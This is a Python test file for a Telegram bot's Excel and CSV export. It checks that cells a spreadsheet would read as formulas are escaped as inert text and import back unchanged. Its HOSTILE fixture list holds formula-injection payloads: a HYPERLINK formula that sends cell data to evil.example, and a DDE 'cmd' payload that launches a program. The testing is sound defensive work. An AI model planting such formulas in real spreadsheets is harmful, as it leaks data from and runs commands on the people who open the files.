"""Exports are inert: a text a spreadsheet would take for a formula (=, +, -, @, tab, CR first) is written as
text no spreadsheet evaluates, and importing the file back gives the same text (the OWASP CSV-injection advice)."""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import io
from pathlib import Path

import openpyxl
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from bot.config import Config
from bot.ledgers.cells import inert, restored
from handlers.telegram.sandbox import seed_demo
from handlers.telegram.transcript import ChatUser
from storage.db import open_engine, sessions
from storage.models import Talk
from tests.conftest import Enroll
from tests.test_roster import HEADER, cli, roster_of, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'=already quoted",
    "''+twice",
]


@given(st.text())
def test_writing_then_reading_a_cell_gives_the_text_back(value: str) -> None:
    written = inert(value)
    assert isinstance(written, str) and restored(written) == value
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))


@given(st.text().filter(lambda value: not value.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r"))))
def test_ordinary_texts_are_written_as_they_are(value: str) -> None:
    assert inert(value) == value and restored(value) == value


def formula_cells(book: openpyxl.Workbook) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("="))
    ]


async def log_talk_with_topic(leader: ChatUser, topic: str) -> None:
    await leader.send("/log")
    await leader.press("工作约谈")
    await leader.send("zm")
    await leader.press("刚才")
    await leader.send(topic)
    await leader.send("工程项目台账不全\n一个月内补齐")
    await leader.press("1个月")
    await leader.press("✅ 确认登记")
    assert "台账编号" in leader.last_reply, leader.last_reply


async def test_a_formula_typed_as_a_topic_is_exported_as_text_and_imports_back_the_same(
    enrolled: Enroll, config: Config, tmp_path: Path
) -> None:
    leader = await enrolled("李华")
    topic = HOSTILE[0]
    await log_talk_with_topic(leader, topic)
    commission = await enrolled("张建平")
    await commission.send("本月约谈多少次")
    await commission.press("导出 Excel")
    document = commission.replies[-1]["document"]
    file = await commission.application.bot.get_file(document["file_id"])
    content = bytes(await file.download_as_bytearray())

    book = openpyxl.load_workbook(io.BytesIO(content))
    assert formula_cells(book) == []
    detail = list(book["明细账"].iter_rows(values_only=True))
    assert detail[3][12] == "'" + topic  # shown as the text typed, with the apostrophe that keeps it text

    # The exported file, imported into another database, gives the talk back with the topic exactly as typed.
    exported = tmp_path / "exported.xlsx"
    exported.write_bytes(content)
    other = dataclasses.replace(config, database_url=f"sqlite+aiosqlite:///{tmp_path / 'other.db'}")
    await seed_demo(other)
    config_file = tmp_path / "other.toml"
    config_file.write_text(f'[database]\nurl = "{other.database_url}"\n', encoding="utf-8")
    assert await asyncio.to_thread(cli, config_file, "import", str(exported)) == 0
    engine = open_engine(other.database_url)
    try:
        async with sessions(engine)() as session:
            assert list(await session.scalars(select(Talk.topic))) == [topic]
    finally:
        await engine.dispose()


def test_roster_exports_are_inert_and_import_back_unchanged(tmp_path: Path, db_url: str) -> None:
    config_path = tmp_path / "config.toml"
    config_path.write_text(f'[database]\nurl = "{db_url}"\n', encoding="utf-8")
    rows = [HEADER] + [
        ["兰州市/城关区", f"人{number}", position, "县处级", ""] for number, position in enumerate(HOSTILE)
    ]
    rows.append(["兰州市/城关区", "-负号开头", "=1+1", "其他", ""])
    # A file as a spreadsheet keeps it: apostrophes in front of a formula character are escapes.
    escaped = [[str(inert(cell)) for cell in row] for row in rows]
    assert cli(config_path, "roster", "import", str(write_csv(tmp_path / "in.csv", escaped))) == 0
    before = roster_of(db_url)
    assert sorted(position for _, _, position, _, _ in before) == sorted([*HOSTILE, "=1+1"])

    assert cli(config_path, "roster", "export", str(tmp_path / "out.xlsx")) == 0
    assert cli(config_path, "roster", "export", str(tmp_path / "out.csv")) == 0
    assert formula_cells(openpyxl.load_workbook(tmp_path / "out.xlsx")) == []
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'-负号开头" in cells and "'''+twice" in cells

    for exported in ("out.xlsx", "out.csv"):
        assert cli(config_path, "roster", "import", str(tmp_path / exported)) == 0
        assert roster_of(db_url) == before, exported
